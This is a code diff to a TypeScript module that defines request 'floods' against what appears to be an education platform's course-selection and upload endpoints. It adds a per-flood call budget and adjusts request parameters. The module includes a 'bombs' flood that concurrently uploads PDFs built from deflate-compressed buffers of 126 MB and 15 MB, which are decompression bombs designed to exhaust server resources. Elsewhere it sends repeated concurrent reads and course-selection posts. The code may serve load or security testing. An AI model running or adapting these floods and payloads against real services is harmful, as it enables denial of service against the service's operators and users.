@@ -5,9 +5,11 @@ import { callOnce, type Sent } from './one-call.ts';
 
 export interface Flood {
   readonly name: string;
-  /** Calls at once; the next follows as soon as one is answered. */
+  /** Calls at once, again and again. */
   readonly atOnce: number;
-  /** What is called, in turn, over and over. */
+  /** Calls in all, where the day is shorter than the limits of a minute. */
+  readonly budget?: number;
+  /** What is called, in turn. */
   prepare(origin: string, learner: StudyLearner): Promise<readonly [Sent, ...Sent[]]>;
 }
 
@@ -50,6 +52,7 @@ const upload = (file: Uint8Array<ArrayBuffer>): Sent => ({ method: 'POST', path:
 const bombs: Flood = {
   name: 'upload',
   atOnce: 4,
+  budget: 50,
   prepare: async () => [
     upload(pdf(deflateSync(Buffer.alloc(126 << 20, '#41')))),
     upload(pdf(deflateSync(Buffer.alloc(15 << 20, '/#41')))),
@@ -76,7 +79,7 @@ const packs: Flood = {
   },
 };
 
-const SELECTION = { area_id: '230106', package_id: '606', year_id: '2026' };
+const SELECTION = { is_select: '1', package_id: '606', year_id: '2026' };
 
 export const FLOODS: readonly Flood[] = [
   beginnings,
@@ -90,7 +93,7 @@ export const FLOODS: readonly Flood[] = [
   flood('select-course', post('/app/further_edu/study/select_course', { ...SELECTION, is_recommended: '1' })),
   flood(
     'reads',
-    get('/app/further_edu/study/course_list', { year_id: '2026' }),
+    get('/app/further_edu/study/course_list', { area_id: '230106', year_id: '2026' }),
     get('/app/further_edu/process/events', { year_id: '2026' }),
     get('/wxpub/api/course_detail', { course_id: '1001', package_id: '606' }),
     get('/app/order/order'),
